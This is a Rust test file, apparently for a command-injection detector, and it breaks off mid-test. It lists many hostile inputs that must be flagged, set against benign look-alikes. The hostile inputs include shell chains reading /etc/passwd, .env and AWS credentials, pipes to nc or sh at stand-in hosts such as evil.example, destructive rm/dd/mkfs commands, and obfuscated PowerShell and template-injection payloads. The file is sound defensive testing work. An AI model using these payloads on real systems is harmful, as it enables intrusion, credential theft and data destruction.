#[test]
fn substitution_in_prose_and_argument_injection() {
    for v in [
        // A code span in a sentence that holds a probe: inside `echo "Comment: $V"` it runs.
        "hello `whoami` world",
        "Nice photo `id` thanks",
        "Please resize my photo; also run `cat config.php` lol",
        "great post `uname` bye",
        "see `curl evil.example` now",
        // A substitution that only redirects a file into the command line.
        "$(<config.php)",
        "x$(<~/.aws/credentials)",
        "$(< \"/etc/passwd\")",
        // Options that read a planted config, upload a secret, load a plugin, or run sed's e.
        "--config=/tmp/x.curlrc",
        "-F 'f=@config.php'",
        "-F name=@/etc/passwd",
        "--form 'x=@.env' http://evil.example",
        "x -Wl,-plugin=/tmp/p.so",
        "-Wl,-plugin,/tmp/p.so",
        "-fplugin=/tmp/p.so",
        "s/.*/id/e",
        "-e 's/x/id/e'",
        "1e id",
        "$e cat /etc/passwd",
        // Kotlin constructs without `new`.
        "ProcessBuilder(\"bash\",\"-c\",\"id\").start()",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "Run `npm install` first",
        "Type `ls` to list files",
        "Type `whoami` to see your user",
        "Run `uname` to print the kernel",
        "Set the `id` field on the row",
        "then `cat README.md` for the docs",
        "So `id` behaves as a boolean option for `--id -5`",
        "Each `id` is unique",
        "Use `$(pwd)` in your script",
        "--config=app.yaml",
        "--config=/etc/app/config.yml",
        "-F 'photo=@cat.jpg'",
        "-F , -v",
        "-Wl,-rpath,/opt/lib",
        "-Wl,--as-needed",
        "s/colour/color/g",
        "s/e/E/g",
        "1e is one",
        "$('<div>')",
        "$(<div>)",
        "costs $(< 5 dollars)",
        "ProcessBuilder(cmd) is the Java API",
        "myProcessBuilder(\"x\").start()",
    ] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn pipeline_shown_in_prose() {
    for v in [
        "How do I pipe output to grep? e.g. ps aux | grep nginx",
        "Use ps aux | grep node to check",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "ps aux | grep nginx; id",
        "x | grep $(id)",
        "cat /etc/passwd | grep root",
        "Use ps | nc evil.example 4444",
    ] {
        assert!(hit(v), "{v}");
    }
}

#[test]
fn powershell_call_on_indexed_variable() {
    for v in [
        "; .$env:ComSpec[4,15,25]-join''",
        "x; &$pshome[4]+$pshome[30]+'x'",
        ".($env:ComSpec[4,15,25]-join'')",
        "; ${env:username}",
        "a;${ENV:COMPUTERNAME}",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "see $env:ComSpec[4] in the docs",
        "${env:DB_HOST}",
        "total. $prices[1] each",
        "a.$b[0]",
    ] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn imagemagick_vid_chain() {
    for v in [
        "vid:msl:/tmp/php*",
        "VID:mvg:/tmp/x.mvg",
        "vid:ephemeral:/tmp/a",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in ["vid:clip.mp4", "vid: /tmp", "video:msl is a format"] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn template_object_graph_walk() {
    for v in [
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{config.__class__.__init__.__globals__}}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
        "${T(java.lang.Runtime)}",
        "#{T(java.lang.ProcessBuilder)}",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "Put your code in __init__.py and the __class__ attribute tells the type",
        "{{ user.__class__.__name__ }}",
        "{{ name }} and __init__.__globals__ in prose",
        "${T(java.util.Date)}",
    ] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn noun_after_ampersand() {
    for v in [
        "fork & knife",
        "salt & knife",
        "knife & fork",
        "bread & java",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "x & curl http://evil/x",
        "a;knife",
        "fork && knife",
        "fork & whoami",
    ] {
        assert!(hit(v), "{v}");
    }
}

#[test]
fn harmless_lists_and_code_spans() {
    // Ordinary program lines joined by `&&`/`||`, piped into a text filter, after `sudo`,
    // or quoted as Markdown code spans in prose.
    for v in [
        "git log --oneline | head -5",
        "rm -rf node_modules && npm install",
        "rm -rf node_modules",
        "git status && git diff",
        "ls | wc -l",
        "ls -la | grep foo",
        "grep -rn TODO src | wc -l",
        "make && make install",
        "sudo apt-get update",
        "sudo systemctl restart nginx",
        "sudo make install",
        "history | grep ssh",
        "bash ./build.sh",
        "python ./app.py",
        "/usr/bin/env python3",
        "use `git pull --rebase`",
        "my script does `tar -xzf file.tar.gz`",
        "The command `ls | wc -l` counts files; it's handy!",
        "try `pip install requests` then `python app.py`",
        // a package installed by name: the same line for any name, as a whole value too
        "x `pip install evil`",
    ] {
        assert!(!hit(v), "{v:?}");
    }
    for v in [
        "ls | sh",
        "git log | bash",
        "ls && id",
        "ls & id",
        "ls | nc 1.2.3.4 80",
        "127.0.0.1 && ping attacker.example",
        "ls && ping -c 5 x.example",
        "ls; whoami",
        "sudo bash",
        "sudo -s",
        "sudo rm -rf /",
        "sudo cat /etc/shadow",
        "ls | head /etc/passwd",
        "ls && curl http://x.example/a | sh",
        "use `curl http://x.example/a | sh`",
        "try `id`",
        "`iptables -F`",
        // a code span that is the whole value stands in no sentence: a substitution
        "`git pull`",
        "`ls -la`",
        "`echo JVJWWG`",
        "sudo iptables -F",
        "`echo RNDSTR``expr 5 + 5`",
        "x`ls`",
        "$(`ls`)",
        "<(`ls`)",
        "`whoami`",
        "ps aux | grep node",
        "cat /etc/os-release",
        "bash ./build.sh -c id",
        "bash x.sh; id",
        "sh ./.hidden.sh",
        "python ../app.py",
        "/usr/bin/env bash",
    ] {
        assert!(hit(v), "{v:?}");
    }
}

#[test]
fn options_whose_value_runs_a_command() {
    for v in [
        "-e id",
        "-e sh",
        "-e /bin/sh",
        "-x whoami",
        "-W exec=id",
        "--checkpoint-action exec:sh",
        "-c ':!id'",
        "-c ':!id' -c ':q'",
        "-K /dev/stdin",
        "--config=/dev/fd/0",
        "-u file:///etc/passwd",
        "--url=file:///proc/self/environ",
        "ssh://-oProxyCommand=touch${IFS}pwned/x",
        "git+ssh://-oProxyCommand=id/x",
    ] {
        assert!(hit(v), "{v:?}");
    }
    for v in [
        "-e utf-8",
        "-e ssh",
        "-e id card",
        "-u admin",
        "-x 5",
        "-m '!important'",
        "-K ~/.curlrc",
        "-u https://example.com/file",
        "--url=file:///home/me/page.html",
        "ssh://git@github.com/org/repo.git",
        "--mode exec",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn groovy_string_execute() {
    for v in [
        "#{'id'.execute()}",
        "\"id\".execute().text",
        "['sh','-c','id'].execute()",
        "${'id'.execute().text}",
        "'curl http://x.example/a'.execute()",
    ] {
        assert!(hit(v), "{v:?}");
    }
    for v in [
        "\"query\".execute()",
        "stmt.execute()",
        "cursor.execute('SELECT 1')",
        "['a','b'].execute()",
        "'hello world'.execute()",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn powershell_char_code_variable_and_wmi_process() {
    for v in [
        "; $e=[char]105+[char]101+[char]120; & $e 'id'",
        "$c=[char]105+[char]101+[char]120;& $c 'whoami'",
        "; ([wmiclass]'win32_process').Create('calc')",
        "([WMICLASS]\"\\\\.\\root\\cimv2:Win32_Process\").Create(\"notepad\")",
        "; ([wmi]'win32_process').Create('calc')",
        "; [System.Diagnostics.Process]::Start('calc')",
        "; [Diagnostics.Process]::Start('calc')",
    ] {
        assert!(hit(v), "{v:?}");
    }
    for v in [
        "[char]65 is the letter A",
        "the Win32_Process class has a Create method",
        "([wmiclass]'win32_process').Properties",
        "[wmiclass] accelerator docs",
        "$a = [char]65; $b = 1",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn device_setting_after_address() {
    for v in [
        "192.168.1.1;uci set network.lan.proto=dhcp",
        "10.0.0.1;nvram set http_passwd=x",
        "192.168.0.1; fw_setenv bootcmd x",
        "router.example.com;uci set system.hostname=x",
    ] {
        assert!(hit(v), "{v:?}");
    }
    for v in [
        "a;b",
        "Tom;Jerry",
        "note; see below",
        "1;2;3",
        "color:red;font-size:2px",
        "10.0.0.1; see below",
        "10.0.0.1; check the gateway",
        "example.com; the site is down",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn python_ordinary_module() {
    for v in [
        "python -m venv .venv",
        "python3.11 -m venv .venv",
        "python -m http.server",
        "python3 -m pip install -r requirements.txt",
        "python -m pytest -q",
    ] {
        assert!(!hit(v), "{v:?}");
    }
    for v in [
        "python -c 'import os'",
        "python3 -m pty",
        "python -m venv /tmp/x; id",
        "python -m pip install x; cat /etc/passwd",
        "whoami",
    ] {
        assert!(hit(v), "{v:?}");
    }
}

#[test]
fn prose_about_ordinary_command_lines() {
    for v in [
        "ls; cd; pwd are basic commands",
        "Invoke-WebRequest returns 403",
        "Try sudo apt-get update && sudo apt-get upgrade",
        "```bash\nls -la\n```",
        "```\ngit status\ngit pull\n```",
        "npm install fails with EACCES",
        "Run git pull && npm install",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "ls; id are basic commands",
        "ls | whoami is what I typed",
        "ls && cat /etc/passwd works",
        "Try sudo apt-get update && id",
        "Try ls; cat /etc/shadow",
        "```bash\nls -la; id\n```",
        "```bash\ncat /etc/passwd\n```",
        "```bash\ncurl http://x/s.sh | sh\n```",
        "ls; id",
        "ls | whoami",
        "ls && cat /etc/passwd",
        "a; ls; pwd are basic",
        "127.0.0.1; ls; pwd are basic",
        "curl -I https://example.com works; id",
        "ls works $(id)",
    ] {
        assert!(hit(v), "{v}");
    }
}

#[test]
fn cloud_and_device_clis_after_separator() {
    // The server's cloud credentials, a router's settings.
    for v in [
        "; aws s3 ls",
        "a;aws sts get-caller-identity",
        "ping;uci show",
        "lan;uci set system.@system[0].hostname=pwned;uci commit",
        "| az account show",
        "; gsutil cat gs://bucket/key",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "ok; see you",
        "Paris; London; Rome",
        "color:red; width:10px",
        "a=b; path=/",
        "apples; pears",
        "AWS S3 pricing",
        "aws vs azure",
        "Arizona (AZ); Utah (UT)",
        "w",
        // `w` (who is logged in) stays out of the vocabulary: passwords and regexes end
        // in `&w`, `;w`, `\\w`.
        "WdL2k00TotshdI&w",
        "x&y=z;w",
        "Do you know AWS; the cloud?",
    ] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn greek_question_mark_is_a_semicolon() {
    // NFKC turns U+037E into `;` before some stacks build the command line.
    for v in [
        "\u{37e}id",
        "x\u{37e}cat /etc/passwd",
        "127.0.0.1\u{37e} whoami",
    ] {
        assert!(hit(v), "{v}");
    }
    // Greek prose ends its questions with it.
    for v in [
        "Τι κάνεις\u{37e}",
        "Πού είσαι\u{37e} Στο σπίτι.",
        "cafe\u{301}",
    ] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn logic_notation_is_no_command_chain() {
    for v in [
        "If x > 5 && y < 3 then return true || false",
        "a > 1 && b < 2",
        "x >= 10 || y <= 0",
    ] {
        assert!(!hit(v), "{v}");
    }
    // A command after the operator, or a comparison reading a file, is a chain.
    for v in [
        "x > 5 && whoami",
        "x > 5 && cat < /etc/passwd",
        "x > 1 && cat < flag",
        "a > 1 && b < 2 || id",
        "x > 5 && rm -rf / || true",
    ] {
        assert!(hit(v), "{v}");
    }
}

#[test]
fn rooted_glob_names_no_program() {
    // A password: no program lives directly in `/`.
    for v in ["/r?n<9#RVM<QLc2$F(", "/c?t<x", "/w*<y"] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "/b?n/c?t </e?c/p?sswd",
        "/???/??t /etc/passwd",
        ";/bin/c?t /etc/passwd",
    ] {
        assert!(hit(v), "{v}");
    }
}

#[test]
fn capitals_joined_by_ampersand_are_a_name() {
    for v in [
        "MILES&MORE 992000123456789",
        "Frequent flyer: MILES&MORE 992000123456789",
        "BED&BREAKFAST",
        "AT&T",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "x&MORE C:\\boot.ini",
        "MILES&TYPE C:\\Windows\\win.ini",
        "a&more /etc/passwd",
        "x&whoami",
    ] {
        assert!(hit(v), "{v}");
    }
}

#[test]
fn escaped_climb_to_etc_is_traversal() {
    // A file read under /etc reached through decoded separators: traversal's finding.
    for v in [
        "/..%2f..%2f..%2fetc/passwd",
        "/..%c0%af..%c0%afetc/passwd",
        "/..%252f..%252fetc/passwd",
    ] {
        assert!(!hit(v), "{v}");
    }
    // A program run after a separator, or a program path outside /etc, stays a command.
    for v in [
        "; /..%2f..%2fetc/passwd; id",
        ";/usr/bin/id",
        "; /bin/cat /etc/passwd",
    ] {
        assert!(hit(v), "{v}");
    }
}

/// A code span in a sentence that filters a plain file of the working tree is prose; a
/// reader of a system or secret file, or a pipe into a shell, is not.
#[test]
fn span_reader_piped_into_filters() {
    for v in [
        "My script does `cat file.txt | sort | uniq` and nothing happens",
        "I ran `cat notes.txt | grep todo | wc -l` and got 3",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "My script does `cat /etc/passwd | sort | uniq` and nothing happens",
        "My script does `cat .env | sort | uniq` and nothing happens",
        "My script does `cat ../config.php | sort` and nothing happens",
        "cat file.txt | sort | uniq; id",
    ] {
        assert!(hit(v), "{v}");
    }
    assert!(!super::harmless_chain(b"cat file.txt | sort"));
    assert!(super::harmless::harmless_chain_with(
        b"cat file.txt | sort",
        true
    ));
    assert!(!super::harmless::harmless_chain_with(b"cat file.txt", true));
}

#[test]
fn empty_braced_variable_after_command_name() {
    for v in [
        ";id${u}",
        "|whoami${x}",
        "&&id${x:-}",
        ";cat${u-} /etc/passwd",
        ";id${U}",
        "$(id${z})",
        "a;i${x}d",
        "a;w$@hoami",
        "a;c''at /etc/passwd",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "Hello ${name}, your total is ${price}",
        "Price: $5",
        "test${n}",
        "${greeting} world",
        "Total ${amount} due",
    ] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn whole_value_group() {
    for v in [
        "(id)",
        "(whoami)",
        "( id )",
        "(cat /etc/passwd)",
        "{ id; }",
        "{ whoami;}",
        "{ uname -a; }",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "(optional)",
        "(see below)",
        "(date)",
        "{ \"a\": 1 }",
        "{id}",
        "{ id }",
        "(docker is required)",
        "(python is fine) and (node too)",
        "(gdb) run\n(gdb)",
    ] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn powershell_subexpression_and_aliases() {
    for v in [
        "; $(Get-Date)",
        "$( get-host )",
        "x $(Invoke-Thing)",
        "| sl 7",
        ";gps",
        "| spps -id 4",
        "; sls pass c:\\x.txt",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "costs $(5) more",
        "$(USD) price",
        "$(well-known) value",
        "good game, gl",
        "Mercedes SL 500",
    ] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn sql_constructs_are_no_commands() {
    for v in [
        "'/**/or/**/1=1#",
        "'/**/and/**/2>1--",
        "/**/union/**/select/**/1",
        "1 AND `sleep`(5)",
        "1 OR `benchmark`(1000,md5(1))",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "`id`",
        ";`whoami`",
        "a`id`b",
        "/???/c?t /etc/passwd",
        "/*/bin/c?t /etc/passwd",
    ] {
        assert!(hit(v), "{v}");
    }
}

#[test]
fn semicolon_table_is_data() {
    for v in [
        "name;amount;date\nRent;1200,00;01.03.2024",
        "date;id;total\r\n2024-03-01;17;12.50\r\n2024-03-02;18;9.99\r\n",
        "Item;Price\nTea;3,50\nCake;4,20",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        ";date",
        "a;id",
        "x;id -u\n1;2",
        "a;cat /etc/passwd\n1;2",
        "name;amount;date\nRent;1200,00",
        "a;b\n;id",
    ] {
        assert!(hit(v), "{v}");
    }
}

fn reason(v: &str) -> Option<&'static str> {
    detect(v, Context::Param).map(|d| d.reason)
}

#[test]
fn line_after_one_token_is_a_separator() {
    // A command line appended after a line break to a one-token value, in every spelling of
    // the break the detector decodes: judged as after a glued `;`.
    for v in [
        "main\necho vulnerable",
        "main%0aecho vulnerable",
        "main%0d%0aecho vulnerable",
        "main%0Aecho%20vulnerable",
        "abc\r\ncat flag",
        "test\ntouch pwned",
        "x_1\ncurl evil.example",
        "foo-bar\nrm pwned",
        "main\\necho vulnerable",
    ] {
        assert_eq!(reason(v), Some("separator+command"), "{v}");
    }
    // Greetings, lists of lines and sentences after a break stay prose.
    for v in [
        "Hello\necho is a nice name",
        "Hello\necho vulnerable",
        "ok\nping me later",
        "thanks\nmake it happen",
        "apple\nbanana\ncat food",
        "note\n  cat food",
        "ok\ncat food is great",
        "Regards\nfind me at the office",
    ] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn hex_escaped_separators_are_decoded() {
    for v in [
        "127.0.0.1\\x3bid",
        "127.0.0.1\\x3Bid",
        "a\\x7cid",
        "x\\x26\\x26id",
        "x\\x0aid",
        "8.8.8.8\\x3b\\x69\\x64",
        "1\\x3bcat /etc/passwd",
    ] {
        assert!(hit(v), "{v}");
    }
    // `\x` escapes of anything but a separator, and separators spelled in prose, stay quiet.
    for v in [
        "C:\\xampp\\htdocs",
        "printf(\"hello\\x0a\")",
        "\\x41\\x42\\x43",
        "color \\x3b is a semicolon",
        "a\\x3bb",
    ] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn json_document_strings_are_judged_alone() {
    for v in [
        r#"["a","b;id"]"#,
        r#"["a", "b | cat /etc/passwd"]"#,
        r#"{"q":["x","y|id"]}"#,
        r#"{"host": "127.0.0.1&&whoami"}"#,
        r#"["a","b\u003bid"]"#,
        r#"["ok","$(id)"]"#,
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        r#"["hello","world"]"#,
        r#"{"id":"42","name":"cat"}"#,
        r#"{"title":"Tom & Jerry","tags":["a;b","c"]}"#,
        r#"["salt & pepper", "rock; roll"]"#,
        r#"{"cmd":"ls -la"}"#,
    ] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn climb_to_a_program_is_left_to_traversal() {
    // One path token whose "command" is the file a `..` climb reaches: traversal's.
    for v in [
        "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
        "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
        "/_vti_bin/..%5c..%5c..%5cwinnt/system32/cmd.exe",
        "..%3b/..%3b/..%3b/etc/passwd",
        "..\\/..\\/..\\/docker-compose.yml.php",
        "/%2e%2e%5c%2e%2e%5cetc/passwd",
    ] {
        assert!(!hit(v), "{v}");
        assert!(crate::traversal::detect(v, Context::Param).is_some(), "{v}");
    }
    // A separator, a blank or an expansion starts a command of its own: still cmdi.
    for v in [
        "/bin/sh",
        "/bin/sh -c id",
        ";/bin/sh",
        "..;id",
        "../../bin/sh;id",
        "x&cmd.exe /c dir",
        "../../bin/sh${IFS}-c${IFS}id",
        "..%2f..%2fbin/sh%0aid",
    ] {
        assert!(hit(v), "{v}");
    }
}

#[test]
fn prose_and_plain_redirections_about_commands() {
    for v in [
        "ps aux | grep nginx shows two processes",
        "uname -a | grep x86 prints nothing",
        "git log --oneline | head -n 5 > out.txt",
        "git log --oneline | head > out.txt",
        "ls -la > files.txt && wc -l files.txt",
        "echo $((3 > 2))",
        "echo $(( 4 == 4 ))",
        "printf $((2 < 3))",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "ps aux | grep node",
        "ps aux | sh shows it",
        "curl evil.example | grep x shows y",
        "cd ~/projects && make build",
        "ping -c 4 google.com",
        "git log | head > index.php",
        "ls > /tmp/x.txt",
        "cat /etc/passwd > out.txt",
        "echo $(($(id)))",
        "echo $((7*7))",
        "x; echo $((3 > 2)) > /var/www/x",
    ] {
        assert!(hit(v), "{v}");
    }
}

/// Round 34: a word built from pieces that expand to nothing, a shell named by `${!#}`,
/// the per-filesystem helpers `mkfs.TYPE`/`fsck.TYPE`.
#[test]
fn words_from_empty_pieces_and_dotted_helpers() {
    for v in [
        ";w`u`hoami",
        "|c`zz9`at /etc/passwd",
        "&& who`qq`ami",
        ";w$(u)hoami",
        "| una$(x1)me -a",
        ";w${x:-}hoami",
        "|c${abc-}at /etc/passwd",
        ";i${u:-}d",
        ";${!#}<<<id",
        "| mkfs.ext4 /dev/sda1",
        "; mkfs.xfs -f /dev/nvme0n1",
        "&& fsck.vfat -a /dev/sdb1",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "see `foo`bar docs",
        "use `make` to build",
        "Hello ${name:-}, welcome",
        "${!#} is the last argument",
        "mkfs.ext4 is the ext4 builder",
        "notes.mkfs.txt",
        "fsck.conf",
    ] {
        assert!(!hit(v), "{v}");
    }
}

/// `50%off&more`: an everyday word glued after `&` ending the value is a password's shape;
/// operands after it, or a command that is no everyday word, still inject.
#[test]
fn glued_ampersand_everyday_word_is_a_password() {
    for v in ["50%off&more", "deals&less", "salt&more", "Bread&Sort"] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "x&whoami",
        "50%off&more /etc/passwd",
        "x&date",
        "127.0.0.1&more",
        "a & more /etc/passwd",
        "x&sort /etc/shadow",
    ] {
        assert!(hit(v), "{v}");
    }
}

/// `PS C:\> Get-Service returns nothing for the spooler`: a PowerShell prompt before prose
/// reporting a result; a pipeline after the prompt is still a command line.
#[test]
fn powershell_prompt_before_prose() {
    for v in [
        r"PS C:\> Get-Service returns nothing for the spooler",
        r"PS C:\Users\me> Get-Process shows nothing",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        r"PS C:\> Get-Service | Stop-Service",
        r"PS C:\> Remove-Item C:\Windows\System32 -Recurse",
    ] {
        assert!(hit(v), "{v}");
    }
}

#[test]
fn file_reads_and_data_includes_are_left_to_traversal() {
    // One absolute path into a directory of no program, or a PHP `data:` stream: traversal's.
    for v in [
        "/proc/net/arp",
        "/proc/self/environ",
        "/var/log/lastlog",
        "/etc/security/passwd",
        "data://text/plain,<?php phpinfo(); ?>",
        "DATA:text/plain,<?php system('id');?>",
    ] {
        assert!(!hit(v), "{v}");
        assert!(crate::traversal::detect(v, Context::Param).is_some(), "{v}");
    }
    // A program's directory, shell syntax after the path, a `data:` value traversal leaves.
    for v in ["/bin/sh", "/usr/bin/id", "/proc/x;id", "/var/log/x|id"] {
        assert!(hit(v), "{v}");
    }
}

#[test]
fn probe_after_host_or_address() {
    for v in [
        "127.0.0.1 || w &",
        "10.0.0.1\r\nw",
        "192.168.1.20;w",
        "example.org\n\nlast\n",
        "api.example.net | who",
        "8.8.4.4 && set",
        "::1; id",
        "[fe80::1] | uname",
        "admin@example.com; cat .env",
        "ops@corp.example.io && type .git\\config",
        "google.com & cat .env ;#",
        "intranet.local|head ~/.aws/credentials",
        "10.1.1.1; less /var/www/.htpasswd #",
        "& vol",
        "| VER",
        "&& vol ;",
        "||dir",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "example.com | last updated",
        "example.com; who we are",
        "amazon.com & more",
        "john@example.com; date",
        "john@example.com; last",
        "10.0.0.1; Who",
        "example.com; cat",
        "example.com; cat food",
        "Vol. 3 & vol",
        "reports.example.com, dir",
    ] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn operand_command_in_semicolon_name_list() {
    for v in [
        "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/iam/aws4_request, SignedHeaders=content-type;host;x-amz-date, Signature=5d672d79c15b13162d9279b0855cfba6789a8edb4c82c400e06b5924a6f2b5d7",
        "SignedHeaders=accept;host;x-amz-content-sha256;x-amz-date",
        "fields=name;ping;status",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        ";id;",
        "a;id;b",
        ";whoami;",
        "a;host evil.example;b",
        "x;cat /etc/passwd;y",
    ] {
        assert!(hit(v), "{v}");
    }
}

#[test]
fn cmdlet_output_redirected_to_file() {
    for v in [
        r"; Write-Output pwned > C:\inetpub\wwwroot\p.txt",
        r"| write-host x >> \\srv\share\x.aspx",
        "&& Write-Output hi > /var/www/html/x.php",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "; Write-Output is what I used",
        "Write-Up > Draft",
        "; Set-Up > 3 steps",
    ] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn template_placeholders_between_words() {
    for v in ["${n} choose ${k}", "${first} ${last}", "${greeting} world"] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "${SHELL} -c id",
        "${n} choose ${k}; id",
        "${x} cat /etc/passwd",
    ] {
        assert!(hit(v), "{v}");
    }
}

#[test]
fn quotes_spliced_into_a_path_command_and_its_path() {
    // The shell removes the quotes inside a word: the program and the file it opens are the
    // plain names, whatever the parity of the quotes left at the end.
    for v in [
        ";/b'i'n/c'a't /e't'c/s'h'a'd'o'w",
        "|/u\"s\"r/b\"i\"n/w\"h\"o\"a\"m\"i",
        "x;/b'i'n/c'a't /e't'c/h'o's't'n'a'm'e",
        "&&/u's'r/b'i'n/h'e'a'd /e't'c/g'r'o'u'p",
        ";c'a't /e't'c/g'r'o'u'p's",
        "a|h'e'a'd /e't'c/h'o'st's",
        ";tail /v'a'r/l'o'g/a'u'th.l'o'g",
        "/b'i'n/l's -l'a /r'o'o't",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    // A contraction stays one: a lone apostrophe inside a word of prose.
    for v in [
        "Hello; ls isn't my thing",
        "Hi; cat's toy is gone",
        "Note: id doesn't /really matter",
        "rock'n'roll; it's fine",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn destructive_and_display_commands_substituted_inside_text() {
    for v in [
        "hi `rm -rf /srv/app/uploads` bye",
        "great post `shred -u /var/log/auth.log` thanks",
        "so `chmod 000 /usr/bin/sudo` cool",
        "ok `dd if=/dev/zero of=/dev/vda` fine",
        "`xterm -display attacker.example.net:0`",
        "nice `xterm -display 203.0.113.9:1` job",
        "xterm -display attacker.example.net:2",
        "name `xterm -display=evil.example.com:0.0` x",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "run `ls -la` to see",
        "try `rm -rf node_modules` then reinstall",
        "remove it with `rm -f build.log` then retry",
        "Run `rm -rf /tmp/cache` to clear it",
        "xterm -display :0",
        "start `xterm -display localhost:10` on the box",
        "set `DISPLAY` before you start",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn a_number_in_parentheses_is_accounting() {
    for v in [
        "Net income: $(1,250.00)",
        "Net loss $(3.5) for Q2",
        "Net change $( 12 500 )",
        "Total: $(42)",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    for v in [
        "$(id)",
        "Net $(whoami)",
        "x $(sleep 5)",
        "$(1;id)",
        "net user $(id)",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn html_tags_are_no_redirections() {
    // Markup is the XSS detector's: its `<`, `>` and attributes are no shell syntax.
    for v in [
        "test<SCRIPT>alert(document.cookie)</SCRIPT>",
        "test<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
        "echo<b>hi</b>",
        "test 7 <a href=\"https://example.org/x.html\">x</a>",
        "set <img src=\"https://cdn.example.org/a.png\" style=\"width:1px;height:1px\">",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    for v in [
        ";cat</etc/passwd",
        "|sh>/tmp/x",
        "<(curl x)",
        "a<script>alert(1)</script>;id",
        "<b>x</b>;cat /etc/passwd",
        "test <b title=\"$(id)\">",
        "echo x >/var/www/html/s.php",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn name_glued_to_a_parenthesis_at_a_start_is_a_call() {
    // sh reads `name(` as a function definition: the name never runs.
    for v in [
        "Elinks('elinks')",
        "Several new functions (getpgid(), killpg(),\nloadavg(), major(), and\nmknod()) were added",
        "import { mkdir } from 'node:fs';\nmkdir('./tmp/a/apple', { recursive: true })",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    // After a separator PowerShell's reading (a parenthesised argument) stays judged, and
    // so do PowerShell's code-running aliases and cmd's `echo(` anywhere.
    for v in [
        "|whoami()",
        "& whoami(x)",
        "; ping(127.0.0.1)",
        ";iex(whoami)",
        "a;Invoke-Expression('whoami')",
        "$(whoami)",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

/// GNU's quoting in prose (`` `uuencode' ``): a backtick opens a name and a `'` closes it.
/// The substitution's text leaves a single quote open, a syntax error to the shell, so the
/// substitution runs nothing; a balanced or escaped quote, or a `"`, keeps it judged.
#[test]
fn gnu_quoting_opens_no_substitution() {
    for v in [
        "`uuencode' prepares a file for transmission over an electronic channel",
        "`wdiff' is a front end to GNU `diff'. It compares two files",
        "Run `make' and then `make install' as root",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "`id`",
        "x `cat /etc/passwd`",
        "`echo 'a'; id`",
        "`cat \"/etc/passwd'\"`",
        "; `whoami'` ; id",
    ] {
        assert!(hit(v), "{v}");
    }
}

/// A caret is cmd's escape alone, and cmd ends a command line at a line feed: after a
/// newline a caret-spelt name runs only as one of Windows' commands (a script cmd runs line
/// by line). Math's `i^d`, `l^s` on a second line name none; `who^ami` stays judged, and
/// a caret word after `&` or at the value's start is judged as before.
#[test]
fn caret_spelt_names_after_a_newline_run_only_on_windows() {
    for v in [
        "i^d \\bmod {p_1}^{k_1}, \\dots,\n            i^d \\bmod {p_n}^{k_n}",
        "sum\n  l^s",
        "y = 2\nw^c",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "a\nwho^ami",
        "a\nn^et user",
        "x\nWHO^AMI.exe",
        "x\nc:/windows/system32/who^ami.exe",
        "x\nc^ertutil -urlcache -f http://x/a a.exe",
        "a & who^ami",
        "w^h^o^a^m^i",
